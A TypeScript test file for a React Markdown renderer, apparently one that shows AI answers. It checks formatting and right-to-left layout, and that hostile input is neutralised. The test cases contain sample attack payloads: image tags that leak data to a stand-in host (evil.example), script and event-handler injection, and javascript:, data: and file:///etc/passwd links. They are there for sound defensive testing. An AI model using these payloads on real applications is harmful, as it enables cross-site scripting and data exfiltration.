import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} live={false} />);

describe("an answer's markdown", () => {
  it("shows structure as structure", () => {
    const html = render("# Title\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x` **y**");
    expect(html).toContain('<h3 class="heading-1">Title</h3>');
    expect(html).toContain("<ol>");
    expect(html).toContain("<td>1</td>");
    expect(html).toContain("<code>x</code>");
    expect(html).toContain("<strong>y</strong>");
  });

  it("lays out each block in the direction of its own words", () => {
    const html = render(
      "مرحبا بك:\n\n1. واحد\n\n| اسم |\n|---|\n| `x` |\n\n`npm start` שלום\n\n## Then English, مرحبا",
    );
    expect(html).toContain('<p dir="rtl">مرحبا بك:</p>');
    expect(html).toContain('<ol dir="rtl">');
    expect(html).toMatch(/class="table-scroll"[^>]* dir="rtl"/);
    expect(html).toContain('<p dir="rtl"><code>npm start</code>');
    expect(html).toContain('<h3 class="heading-2">Then English');
  });

  it.each([
    ["a markdown image", "![secret](https://evil.example/?q=secret)"],
    ["an image by reference", "![a][b]\n\n[b]: https://evil.example/x.png"],
    ["an HTML image", '<img src="https://evil.example/x.png">'],
    ["a data image", "![a](data:image/svg+xml,<svg/onload=alert(1)>)"],
    ["a style with an address", '<div style="background:url(https://evil.example)">x</div>'],
    [
      "a picture, a video, an iframe",
      '<picture><source srcset="https://evil.example/x"></picture><video src="https://evil.example/v"></video><iframe src="https://evil.example"></iframe>',
    ],
  ])("never fetches anything by itself: %s", (_, text) => {
    expect(render(text)).not.toMatch(/<(img|picture|source|video|audio|iframe|object|embed|link|style)\b/i);
    expect(render(text)).not.toMatch(/\sstyle="[^"]*url/i);
  });

  it.each([
    ["a script", "<script>alert(1)</script>"],
    ["an event handler", '<b onclick="alert(1)">x</b>'],
    ["a form", '<form action="https://evil.example"><input name="a"></form>'],
    ["an unknown element", "<marquee>x</marquee>"],
  ])("shows HTML as the text it is: %s", (_, text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(script|b|form|input|marquee)\b/i);
    expect(html).toContain("&lt;");
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:x",
    "data:text/html,x",
    "file:///etc/passwd",
    "/settings",
    "streamdown:x",
  ])("does not link to %s", (address) => {
    expect(render(`[press](${address})`)).not.toContain("href");
  });

  it("opens links apart, without telling where from, and shows their host", () => {
    const html = render("[the bank](https://evil.example/login)");
    expect(html).toContain('href="https://evil.example/login"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain("noopener noreferrer");
    expect(html).toContain("(evil.example)");
  });

  it("keeps prices as prices", () => {
    expect(render("It costs $5 per month or $50 per year.")).toContain("$5 per month or $50 per year");
  });

  it("shows code with its language and a way to copy it", () => {
    const html = render("```ts\nconst a = 1;\n```");
    expect(html).toContain('aria-label="Code in ts"');
    expect(html).toContain("Copy code");
    expect(html).toContain("const a = 1;");
  });
});
